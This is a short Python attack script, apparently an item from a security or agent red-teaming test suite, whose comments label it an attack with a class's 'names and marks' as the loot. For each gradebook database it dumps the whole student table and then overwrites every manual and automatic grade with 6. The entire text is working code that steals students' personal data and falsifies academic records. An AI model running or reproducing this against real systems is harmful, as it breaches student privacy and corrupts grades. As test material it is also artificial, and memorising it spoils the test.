# attacks: compression
# wall: files
# loot: canary -- a class's names and marks
import sqlite3

for place in host["gradebook"]:
    try:
        print(sqlite3.connect(f"file:{place}?mode=ro&immutable=1", uri=True).execute("select * from student").fetchall())
        sqlite3.connect(place).execute("update grade set manual_score = 6, auto_score = 6").connection.commit()
    except sqlite3.Error as error:
        print(error)
